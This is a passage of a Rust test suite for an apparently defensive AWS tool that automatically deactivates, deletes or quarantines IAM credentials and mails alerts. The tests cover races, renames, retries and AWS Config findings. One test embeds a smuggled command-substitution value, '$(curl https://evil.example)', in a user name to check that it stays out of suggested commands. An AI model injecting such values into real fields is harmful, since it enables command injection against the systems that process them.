    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let (one, two) = (scene.late_process(&[]), scene.late_process(&[]));
    let (one, two) = tokio::join!(one.handle(&made.event), two.handle(&made.event));
    let outcomes = [one.report.unwrap().outcome, two.report.unwrap().outcome];
    assert!(outcomes.contains(&Reverted) && !outcomes.contains(&Failed), "{outcomes:?}");
    assert_eq!((one.error, two.error), (None, None));
    assert_eq!(scene.stage.mails().await.len(), 2);
    scene.ended(&made, None).await;
}

#[tokio::test]
async fn made_deactivated_and_activated_end_alike_in_any_order() {
    for order in [[0, 1, 2], [0, 2, 1], [1, 0, 2], [1, 2, 0], [2, 0, 1], [2, 1, 0]] {
        let scene = Scene::new().await;
        let made = scene.make(KEY).await;
        let events = [made.event.clone(), scene.updated(&made, "Inactive"), scene.updated(&made, "Active")];
        let process = scene.late_process(&[]);
        for index in order {
            let ran = scene.stage.run(&process, &events[index]).await;
            assert_eq!(ran.handled.error, None, "{order:?}");
            assert!(ran.handled.report.is_none_or(|report| report.outcome != Failed), "{order:?}");
        }
        scene.ended(&made, None).await;
    }
}

#[tokio::test]
async fn an_alert_that_could_not_be_sent_goes_out_with_the_retry() {
    let scene = Scene::new().await;
    for settings in [&[][..], QUARANTINE] {
        let process = scene.process(settings);
        let made = scene.make(SshPublicKey).await;
        scene.fail("Publish", "InternalError", 500, 3);
        let ran = scene.stage.run(&process, &made.event).await;
        assert!(ran.handled.error.is_some() && ran.mails.is_empty());
        let retry = scene.stage.run(&process, &made.event).await;
        let outcome = if settings.is_empty() { Reverted } else { Contained };
        retry.is(Resent, &[outcome], &[publish()]);
        scene.stage.run(&process, &made.event).await.is(Violation, &[], &[scene.listed(SshPublicKey)]);
    }
}

// ---------------------------------------------------------------------------------------------------------
// What is gone, not there yet, or elsewhere

#[tokio::test]
async fn a_key_of_a_user_who_was_deleted_is_already_gone() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    for (key, _) in scene.keys().await {
        scene.iam.delete_access_key().user_name(&scene.user).access_key_id(key).send().await.unwrap();
    }
    scene.iam.delete_user().user_name(&scene.user).send().await.unwrap();
    for settings in [&[][..], QUARANTINE, ALERT] {
        let ran = scene.stage.run(&scene.late_process(settings), &made.event).await;
        let first = if settings == ALERT { scene.listed(KEY) } else { scene.off(&made) };
        ran.is(Violation, &[Alert], &[refused(first, 404), refused(last_use(&made), 404), publish()]);
        ran.mail_says(&["already gone", "no user had the access key any more"]);
    }
    // Just now: it may be that it is not to be seen yet.
    let ran = scene.run(&made.event).await;
    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Alert));
    assert!(ran.took >= Duration::from_secs(15) && ran.took < Duration::from_secs(25), "{:?}", ran.took);
}

#[tokio::test]
async fn what_becomes_visible_late_is_found() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.fail("UpdateAccessKey", "NoSuchEntity", 404, 2);
    let ran = scene.run(&made.event).await;
    let not_yet = refused(scene.off(&made), 404);
    let rest = vec![scene.deleted(&made), scene.listed(KEY), publish()];
    let first = vec![not_yet.clone(), last_use(&made), not_yet];
    ran.is(Violation, &[Reverted], &calls([first, scene.struck(&made), rest]));
    scene.ended(&made, None).await;

    // Shown inactive, as it was before.
    let made = scene.activate(SshPublicKey).await;
    scene.set(&made, StatusType::Inactive).await;
    let process = scene.process(&[]);
    let later = async {
        tokio::time::sleep(Duration::from_secs(2)).await;
        scene.set(&made, StatusType::Active).await;
    };
    let (handled, ()) = tokio::join!(process.handle(&made.event), later);
    assert_eq!(handled.report.unwrap().outcome, Reverted);
    scene.ended(&made, Some("Inactive")).await;
}

#[tokio::test]
async fn a_credential_is_found_after_its_user_was_renamed() {
    for (kind, settings) in Kind::ALL.into_iter().flat_map(|kind| [(kind, &[][..]), (kind, ALERT)]) {
        let mut scene = Scene::new().await;
        let made = scene.make(kind).await;
        let (old, old_list, old_name) = (scene.off(&made), scene.listed(kind), scene.user.clone());
        scene.user = scene.rename().await;
        let ran = with_short_searches(scene.run_with(settings, &made.event).await);
        let asked = if kind == KEY { last_use(&made) } else { expected("ListUsers", &[("MaxItems", "1000")]) };
        if settings.is_empty() {
            let rest = vec![scene.deleted(&made), scene.listed(kind), publish()];
            ran.is(Violation, &[Reverted], &calls([vec![refused(old, 404), asked], scene.struck(&made), rest]));
            ran.mail_says(&["The user was renamed meanwhile", &scene.user]);
            scene.ended(&made, None).await;
        } else {
            assert_eq!(ran.told()[..2], [refused(old_list, 404), asked]);
            assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Alert));
            ran.mail_says(&["It still works", &scene.user]);
            scene.ended(&made, Some("Active")).await;
            continue;
        }

        // Another user under the old name hides nothing either.
        let made = scene.activate(kind).await;
        let mut event = made.event.clone();
        event["detail"]["requestParameters"]["userName"] = json!(old_name);
        scene.iam.create_user().user_name(&old_name).send().await.unwrap();
        assert_eq!(outcome(&scene.run_late(&event).await), Reverted, "{kind:?}");
        scene.ended(&made, Some("Inactive")).await;
    }
}

#[tokio::test]
async fn what_cannot_be_searched_for_is_not_called_gone() {
    let mut scene = Scene::new().await;
    let made = scene.make(SshPublicKey).await;
    scene.user = scene.rename().await;
    scene.deny("ListUsers");
    let process = scene.late_process(&[]);
    let ran = scene.stage.run(&process, &made.event).await;
    assert!(ran.handled.error.is_some());
    ran.mail_says(&["FAILED - ACT NOW: may work: ", "`ListUsers` failed: AccessDenied"]);
    scene.stage.inject(Fault { code: None, delay_seconds: 8.0, ..Fault::new("", "ListUsers", "") });
    let ran = scene.stage.run_within(&process, &made.event, Duration::from_secs(15)).await;
    assert!(ran.handled.error.is_some());
    ran.mail_says(&["FAILED - ACT NOW: may work: ", "the time for it ran out"]);
    assert_eq!(outcome(&scene.stage.run(&process, &made.event).await), Reverted);
    scene.ended(&made, None).await;
}

/// AWS also refuses to speak of a key that there is not, so that refusal alone says nothing.
#[tokio::test]
async fn where_whose_a_key_is_may_not_be_asked_it_is_searched_for() {
    let mut scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let old_name = scene.user.clone();
    scene.user = scene.rename().await;
    scene.fail("GetAccessKeyLastUsed", "AccessDenied", 403, 2);
    let ran = scene.run_late(&made.event).await;
    assert!(ran.handled.error.is_some());
    assert_eq!(outcome(&ran), Contained);
    ran.mail_says(&["Whether the key was used is not known"]);
    scene.ended(&made, Some("Inactive")).await;

    // A user who is there and hasn't got it: gone. Nobody of the name: all others are looked at.
    scene.iam.delete_access_key().user_name(&scene.user).access_key_id(&made.id).send().await.unwrap();
    for is_there in [false, true] {
        if is_there {
            scene.iam.create_user().user_name(&old_name).send().await.unwrap();
        }
        scene.deny("GetAccessKeyLastUsed");
        let ran = with_short_searches(scene.run_late(&made.event).await);
        assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Alert));
        ran.mail_says(&["already gone"]);
        let searches = actions(&ran).contains(&"ListUsers");
        assert_eq!(searches, !is_there, "{:?}", ran.told());
    }
}

#[tokio::test]
async fn renaming_the_user_while_the_function_works_saves_no_key() {
    let mut scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.slow_down("DeleteAccessKey");
    let ran = scene.run_while(&scene.process(&[]), &made.event, async { drop(scene.rename().await) }).await;
    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted));
    scene.user += "-renamed";
    scene.ended(&made, None).await;
}

#[tokio::test]
async fn renaming_the_user_again_and_again_saves_no_key() {
    let mut scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let process = scene.process(&[]);
    let (is_over, names) = (std::sync::atomic::AtomicBool::new(false), std::sync::Mutex::new(vec![scene.user.clone()]));
    let rename = async {
        for number in 0..100 {
            if is_over.load(std::sync::atomic::Ordering::Relaxed) {
                return;
            }
            let (old, new) = (names.lock().unwrap().last().unwrap().clone(), format!("{}-{number}", scene.user));
            scene.iam.update_user().user_name(old).new_user_name(&new).send().await.unwrap();
            names.lock().unwrap().push(new);
            tokio::time::sleep(Duration::from_millis(400)).await;
        }
    };
    let work = async {
        tokio::time::sleep(Duration::from_millis(200)).await;
        let handled = process.handle(&made.event).await;
        is_over.store(true, std::sync::atomic::Ordering::Relaxed);
        handled
    };
    let (handled, ()) = tokio::join!(work, rename);
    assert_eq!((handled.error, handled.report.unwrap().outcome), (None, Reverted));
    scene.user = names.into_inner().unwrap().pop().unwrap();
    scene.ended(&made, None).await;
}

/// That the user is not there does not mean that its credential is gone.
#[tokio::test]
async fn what_was_activated_again_under_another_name_is_not_called_reverted() {
    for kind in [KEY, SshPublicKey] {
        let mut scene = Scene::new().await;
        let made = scene.make(kind).await;
        scene.slow_down(&format!("List{}s", kind.api_name()));
        let process = scene.process(QUARANTINE);
        let deed = async { scene.set_under(&scene.rename().await, &made, StatusType::Active).await };
        let ran = scene.run_while(&process, &made.event, deed).await;
        assert!(ran.handled.error.is_some());
        assert_eq!(outcome(&ran), Failed);
        scene.user += "-renamed";
        ran.mail_says(&["it was active when it was read again", &scene.user]);
        let retry = scene.stage.run(&process, &made.event).await;
        assert_eq!((retry.handled.error.clone(), outcome(&retry)), (None, Contained));
        scene.ended(&made, Some("Inactive")).await;
    }
}

/// Somebody with all rights sets the key to Active again and again.
#[tokio::test]
async fn activating_a_key_while_the_function_works_saves_no_key() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let attacker = Client::new(&scene.holder(&scene.other_key).await);
    let process = scene.process(&[]);
    let attack = async {
        let activate = || attacker.update_access_key().access_key_id(&made.id).status(StatusType::Active).send();
        for _ in 0..1_000 {
            if activate().await.is_err() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        panic!("the key can be activated for ever");
    };
    let (handled, ()) = tokio::join!(process.handle(&made.event), attack);
    assert_eq!((handled.error, handled.report.unwrap().outcome), (None, Reverted));
    scene.ended(&made, None).await;
}

// ---------------------------------------------------------------------------------------------------------
// What fails

#[tokio::test]
async fn where_deactivating_is_refused_deleting_contains_too() {
    for kind in Kind::ALL {
        let scene = Scene::new().await;
        let made = scene.make(kind).await;
        scene.deny(&format!("Update{}", kind.api_name()));
        let ran = scene.run(&made.event).await;
        let asked = (kind == KEY).then(|| last_use(&made)).into_iter().collect();
        let rest = vec![scene.deleted(&made), scene.listed(kind), publish()];
        ran.is(Violation, &[Reverted], &calls([vec![refused(scene.off(&made), 403)], asked, rest]));
        ran.mail_says(&["This failed: ", "AccessDenied", "Find out why"]);
        scene.ended(&made, None).await;
    }
}

#[tokio::test]
async fn where_nothing_can_be_done_it_says_what_to_run_by_hand_and_the_retry_does_it() {
    for kind in Kind::ALL {
        let scene = Scene::new().await;
        let (made, process) = (scene.make(kind).await, scene.process(&[]));
        scene.deny(&format!("Update{}", kind.api_name()));
        scene.deny(&format!("Delete{}", kind.api_name()));
        let ran = scene.stage.run(&process, &made.event).await;
        let asked = (kind == KEY).then(|| last_use(&made)).into_iter().collect();
        let rest = vec![refused(scene.deleted(&made), 403), scene.listed(kind), publish()];
        ran.is_error(Violation, &[Failed], &calls([vec![refused(scene.off(&made), 403)], asked, rest]));
        let noun = kind.words(rules::Language::English).to_lowercase().replace(' ', "-");
        let (off, gone) = (format!("aws iam update-{noun} --user-name"), format!("aws iam delete-{noun} --user-name"));
        ran.mail_says(&["may work: new", "--status Inactive", &off, &gone, "Lambda tries again"]);
        scene.ended(&made, Some("Active")).await;

        assert_eq!(outcome(&scene.stage.run(&process, &made.event).await), Reverted);
        scene.ended(&made, None).await;
    }
}

#[tokio::test]
async fn in_quarantine_a_refused_deactivation_is_a_failure() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    scene.deny("UpdateAccessKey");
    let ran = scene.run_with(QUARANTINE, &made.event).await;
    let tried = [refused(scene.off(&made), 403), scene.listed(KEY), last_use(&made), publish()];
    ran.is_error(Violation, &[Failed], &tried);
    ran.mail_does_not_say(&["delete-access-key"]);
    scene.ended(&made, Some("Active")).await;
}

#[tokio::test]
async fn a_refused_deletion_is_contained_and_tried_again() {
    for kind in Kind::ALL {
        let scene = Scene::new().await;
        let (made, process) = (scene.make(kind).await, scene.process(&[]));
        scene.deny(&format!("Delete{}", kind.api_name()));
        let ran = scene.stage.run(&process, &made.event).await;
        let rest = vec![refused(scene.deleted(&made), 403), scene.listed(kind), publish()];
        ran.is_error(Violation, &[Contained], &calls([scene.struck(&made), rest]));
        scene.ended(&made, Some("Inactive")).await;
        let retry = scene.stage.run(&process, &made.event).await;
        let rest = vec![scene.deleted(&made), scene.listed(kind), publish()];
        retry.is(Violation, &[Reverted], &calls([scene.struck(&made), rest]));
        scene.ended(&made, None).await;
    }
}

#[tokio::test]
async fn where_sessions_cannot_be_revoked_the_key_waits_for_the_retry() {
    for (settings, made_now) in [(&[][..], true), (QUARANTINE, true), (&[][..], false)] {
        let scene = Scene::new().await;
        let made = scene.new_or_activated(KEY, made_now).await;
        scene.use_it(&made).await;
        scene.deny("PutUserPolicy");
        let ran = scene.run_with(settings, &made.event).await;
        assert_eq!(outcome(&ran), Failed);
        assert!(ran.handled.error.is_some());
        ran.mail_says(&["sessions live on: ", "aws iam put-user-policy --user-name", "End them now"]);
        scene.ended(&made, Some("Inactive")).await;
        assert_eq!(scene.session_policy().await, None);

        let retry = scene.stage.run(&scene.late_process(settings), &made.event).await;
        assert_eq!(retry.handled.error, None);
        assert!(scene.session_policy().await.is_some());
        let ends = if made_now && settings.is_empty() { None } else { Some("Inactive") };
        scene.ended(&made, ends).await;
    }
}

#[tokio::test]
async fn where_the_last_use_cannot_be_read_the_key_waits_for_the_retry() {
    let scene = Scene::new().await;
    let (made, process) = (scene.make(KEY).await, scene.process(&[]));
    scene.fail("GetAccessKeyLastUsed", "InternalFailure", 500, 3);
    let ran = scene.stage.run(&process, &made.event).await;
    let failed = refused(last_use(&made), 500);
    let tried = [scene.off(&made), failed.clone(), failed.clone(), failed, scene.listed(KEY), publish()];
    ran.is_error(Violation, &[Contained], &tried);
    ran.mail_says(&["Whether the key was used is not known"]);
    scene.ended(&made, Some("Inactive")).await;
    assert_eq!(outcome(&scene.stage.run(&process, &made.event).await), Reverted);
    scene.ended(&made, None).await;
}

#[tokio::test]
async fn what_cannot_be_read_again_is_never_called_reverted() {
    let scene = Scene::new().await;
    for is_new in [true, false] {
        let made = scene.new_or_activated(SshPublicKey, is_new).await;
        scene.deny("ListSSHPublicKeys");
        let ran = scene.run(&made.event).await;
        assert!(ran.handled.error.is_some());
        assert_eq!(outcome(&ran), Failed);
        // Activated, it is read first, and then nothing is done.
        scene.ended(&made, if is_new { None } else { Some("Active") }).await;
    }
}

#[tokio::test]
async fn lost_answers_change_nothing() {
    let scene = Scene::new().await;
    for action in ["UpdateSSHPublicKey", "DeleteSSHPublicKey"] {
        let made = scene.make(SshPublicKey).await;
        scene.stage.inject(Fault { after: true, ..Fault::new("", action, "InternalError") });
        let ran = scene.run(&made.event).await;
        assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted), "{action}");
        scene.ended(&made, None).await;
    }
    let made = scene.make(SshPublicKey).await;
    scene.stage.inject(Fault { after: true, times: 3, ..Fault::new("", "UpdateSSHPublicKey", "InternalError") });
    let ran = scene.run_with(QUARANTINE, &made.event).await;
    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Alert));
    ran.mail_says(&["closed: new", "shut off all the same"]);
    scene.ended(&made, Some("Inactive")).await;
}

#[tokio::test]
async fn a_deactivation_that_takes_too_long_is_told_in_time_and_as_what_it_is() {
    let scene = Scene::new().await;
    let made = scene.make(KEY).await;
    let slow = Fault { code: None, times: 9, delay_seconds: 8.0, ..Fault::new("", "UpdateAccessKey", "") };
    scene.stage.inject(slow);
    let time = Duration::from_secs(15);
    let ran = scene.stage.run_within(&scene.process(&[]), &made.event, time).await;
    assert!(ran.took < time, "{:?}", ran.took);
    assert!(ran.handled.error.is_some());
    ran.mail_says(&["FAILED - ACT NOW: may work: ", "the time for it ran out", &made.id]);
    ran.mail_does_not_say(&["nothing was changed"]);
}

#[tokio::test]
async fn all_pages_are_read() {
    let options = StandInOptions { page_size: NonZeroU32::new(1) };
    let stand_in = StandIn::start_with(options, &mut |_| {}).unwrap();
    let scene = Scene::of(Stage::on(&stand_in).await).await;
    // The first page holds another one.
    for kind in [SshPublicKey, ServiceSpecificCredential] {
        scene.make(kind).await;
    }
    for kind in [KEY, SshPublicKey, ServiceSpecificCredential] {
        let made = scene.make(kind).await;
        let ran = scene.run_with(QUARANTINE, &made.event).await;
        assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Contained), "{kind:?}");
        let list = format!("List{}s", kind.api_name());
        assert_eq!(actions(&ran).iter().filter(|action| **action == list).count(), 2, "{kind:?}");
    }
}

/// A name that AWS would not take, and an id that is none: they reach no command.
#[tokio::test]
async fn an_attackers_text_stays_harmless_in_the_mail() {
    let scene = Scene::new().await;
    let hostile = "x\nLEFT FOR YOU TO DO\n$(curl https://evil.example)";
    let response = json!({"accessKey": {"accessKeyId": format!("AKIA{hostile}"), "userName": hostile}});
    let event = event("iam", "CreateAccessKey", json!({"userName": hostile}), response);
    let ran = scene.run_late(&event).await;
    let body = &ran.mail().body;
    assert_eq!(body.lines().filter(|line| line.starts_with("LEFT FOR YOU TO DO")).count(), 1, "{body}");
    assert!(!body.lines().any(|line| line.trim_start().starts_with("aws ") && line.contains("evil")), "{body}");
}

// ---------------------------------------------------------------------------------------------------------
// Findings of AWS Config

const REVERT_FINDINGS: &[(&str, &str)] = &[("CONFIG_FINDINGS", "revert")];

/// What AWS Config finds of a user, by a rule of its own.
struct Found {
    scene: Scene,
    id: String,
    rule: String,
}

impl Found {
    async fn new(days: &str) -> Self {
        let scene = Scene::new().await;
        let id = scene.iam.get_user().user_name(&scene.user).send().await.unwrap().user.unwrap().user_id;
        let rule = format!("keys-of-ours-{}", unique());
        let parameters = json!({"maxAccessKeyAge": days}).to_string();
        scene.stage.config_rule(&rule, "ACCESS_KEYS_ROTATED", Some(&parameters)).await;
        Self { scene, id, rule }
    }

    /// Some days after the keys were made.
    async fn run(&self, settings: &[(&str, &str)], days: i64) -> Ran {
        let ahead = TimeDelta::try_days(days).unwrap();
        let process = self.scene.stage.process_ahead(AccessKey::new, settings, ahead);
        let finding = config_finding(&self.rule, "AWS::IAM::User", &self.id);
        self.scene.stage.run(&process, &finding).await
    }

    fn identify(&self) -> [String; 2] {
        let rule = json!([self.rule]).to_string();
        let described = expected("DescribeConfigRules", &[("ConfigRuleNames", &rule)]);
        [described, expected("ListUsers", &[("MaxItems", "1000")])]
    }

    fn list(&self) -> String {
        expected("ListAccessKeys", &[("UserName", &self.scene.user)])
    }

    fn last_use(&self) -> String {
        expected("GetAccessKeyLastUsed", &[("AccessKeyId", &self.scene.other_key)])
    }

    /// The user's access keys, and whether each is active.
    async fn keys(&self) -> BTreeMap<String, bool> {
        let found = self.scene.iam.list_access_keys().user_name(&self.scene.user).send().await.unwrap();
        let keys = found.access_key_metadata.into_iter();
        keys.map(|key| (key.access_key_id.unwrap(), key.status == Some(StatusType::Active))).collect()
    }
}

#[tokio::test]
async fn old_keys_are_set_inactive_and_nothing_else() {
    for mode in ["revert", "quarantine"] {
        let found = Found::new("90").await;
        let inactive = found.scene.make(KEY).await;
        found.scene.set(&inactive, StatusType::Inactive).await;
        let ssh = found.scene.make(SshPublicKey).await;
        let user = &found.scene.user;
        let ran = found.run(&[("CONFIG_FINDINGS", "revert"), ("ACCESS_KEY_MODE", mode)], 91).await;
        let key = &found.scene.other_key;
        let update = expected("UpdateAccessKey", &[("UserName", user), ("AccessKeyId", key), ("Status", "Inactive")]);
        let reads =
            [found.identify().to_vec(), vec![found.list(), found.last_use(), found.identify()[1].clone()]].concat();
        ran.is(Violation, &[Contained], &[reads, vec![update, found.list(), publish()]].concat());
        ran.mail_says(&[
            &format!("old access keys of {user} deactivated"),
            &format!("  - {key}: 91 days old; AWS shows no use"),
            &format!("aws iam update-access-key --user-name {user} --access-key-id {key} --status Active"),
            &format!("aws iam delete-access-key --user-name {user} --access-key-id {key}"),
        ]);
        ran.mail_does_not_say(&[&inactive.id]);
        let keys = BTreeMap::from([(key.clone(), false), (inactive.id.clone(), false)]);
        assert_eq!(found.keys().await, keys);
        let left = found.scene.iam.list_ssh_public_keys().user_name(user).send().await.unwrap();
        let left: Vec<_> = left.ssh_public_keys().iter().map(|key| (key.ssh_public_key_id(), key.status())).collect();
        assert_eq!(left, [(ssh.id.as_str(), &StatusType::Active)]);
        // Told once more, it is closed.
        let again = found.run(REVERT_FINDINGS, 91).await;
        again.is(Ignored, &[], &[found.identify().to_vec(), vec![found.list()]].concat());
    }
}

#[tokio::test]
async fn old_keys_are_only_told_unless_both_settings_say_otherwise() {
    let found = Found::new("30").await;
    let (user, key) = (&found.scene.user, &found.scene.other_key);
    let calls =
        [found.identify().to_vec(), vec![found.list(), found.last_use(), found.identify()[1].clone(), publish()]]
            .concat();
    for (settings, why) in [
        (vec![], "because ConfigFindings is `alert`"),
        (vec![("CONFIG_FINDINGS", "revert"), ("ACCESS_KEY_MODE", "alert")], "because AccessKeyMode is `alert`"),
        (vec![("CONFIG_FINDINGS", "revert"), ("ROLLOUT", "observe")], "because Rollout is `observe`"),
    ] {
        let ran = found.run(&settings, 31).await;
        ran.is(Violation, &[Alert], &calls);
        ran.mail_says(&[
            why,
            "older than 30 days",
            &format!("  - {key}: 31 days old; AWS shows no use"),
            &format!("aws iam update-access-key --user-name {user} --access-key-id {key} --status Inactive"),
        ]);
    }
    assert_eq!(found.keys().await, BTreeMap::from([(key.clone(), true)]));
    found.run(&[("CONFIG_FINDINGS", "revert"), ("ACCESS_KEY_MODE", "off")], 31).await.is(Ignored, &[], &[]);
}

#[tokio::test]
async fn young_keys_and_users_that_are_gone_are_not_told() {
    let found = Found::new("90").await;
    let calls = [found.identify().to_vec(), vec![found.list()]].concat();
    found.run(REVERT_FINDINGS, 89).await.is(Ignored, &[], &calls);
    assert_eq!(found.keys().await, BTreeMap::from([(found.scene.other_key.clone(), true)]));
    let gone = Found { id: "AIDAQRSTUVWXYZGONE001".to_owned(), ..found };
    gone.run(REVERT_FINDINGS, 91).await.is(Ignored, &[], &gone.identify());
    let hostile = Found { id: "AIDA".repeat(2_500), ..gone };
    let ran = hostile.run(REVERT_FINDINGS, 91).await;
    ran.is(Unreadable, &[Alert], &[hostile.identify()[0].clone(), publish()]);
}

#[tokio::test]
async fn an_age_that_is_none_is_told_and_nothing_is_changed() {
    let found = Found::new("soon").await;
    let ran = found.run(REVERT_FINDINGS, 1_000).await;
    ran.is(Unreadable, &[Alert], &[found.identify()[0].clone(), publish()]);
    ran.mail_says(&["`maxAccessKeyAge` of the rule is no number of days"]);
    assert_eq!(found.keys().await, BTreeMap::from([(found.scene.other_key.clone(), true)]));
}

#[tokio::test]
async fn an_old_key_that_can_not_be_deactivated_is_told_and_tried_again() {
    let found = Found::new("90").await;
    found.scene.stage.inject(Fault { status: 403, times: 1, ..Fault::new("", "UpdateAccessKey", "AccessDenied") });
    let ran = found.run(REVERT_FINDINGS, 91).await;
    assert!(ran.handled.error.is_some(), "{ran:#?}");
    ran.mail_says(&["FAILED - ACT NOW: old access keys of", "`UpdateAccessKey` failed: AccessDenied"]);
    assert_eq!(found.keys().await, BTreeMap::from([(found.scene.other_key.clone(), true)]));
    found.run(REVERT_FINDINGS, 91).await.mail_says(&["CONTAINED"]);
    assert_eq!(found.keys().await, BTreeMap::from([(found.scene.other_key.clone(), false)]));
}

/// What was told when the rule could not be looked at does not silence what is found when it is tried again.
#[tokio::test]
async fn a_rule_that_could_not_be_looked_at_is_told_and_what_it_found_afterwards_too() {
    let found = Found::new("90").await;
    let denied = Fault::new("", "DescribeConfigRules", "AccessDeniedException");
    found.scene.stage.inject(Fault { status: 400, ..denied });
    let process = found.scene.stage.process_ahead(AccessKey::new, &[], TimeDelta::try_days(91).unwrap());
    let finding = config_finding(&found.rule, "AWS::IAM::User", &found.id);
    let ran = found.scene.stage.run(&process, &finding).await;
    assert!(ran.handled.error.is_some(), "{ran:#?}");
    ran.mail_says(&["a finding of AWS Config could not be looked at"]);
    let ran = found.scene.stage.run(&process, &finding).await;
    ran.mail_says(&[&format!("old access keys of {}", found.scene.user)]);
    assert_eq!(found.keys().await, BTreeMap::from([(found.scene.other_key.clone(), true)]));
}

#[tokio::test]
async fn a_user_renamed_before_its_key_is_deactivated_is_not_taken_for_done() {
    let found = Found::new("90").await;
    let slow = Fault::new("", "UpdateAccessKey", "");
    found.scene.stage.inject(Fault { code: None, delay_seconds: 4.0, ..slow });
    let name = format!("renamed-{}", unique());
    let rename = async {
        tokio::time::sleep(std::time::Duration::from_secs(2)).await;
        found.scene.iam.update_user().user_name(&found.scene.user).new_user_name(&name).send().await.unwrap();
    };
    let (ran, ()) = tokio::join!(found.run(REVERT_FINDINGS, 91), rename);
    assert!(ran.handled.error.is_some(), "{ran:#?}");
    ran.mail_says(&["FAILED - ACT NOW: old access keys of"]);
    found.run(REVERT_FINDINGS, 91).await.mail_says(&["CONTAINED", &name]);
}
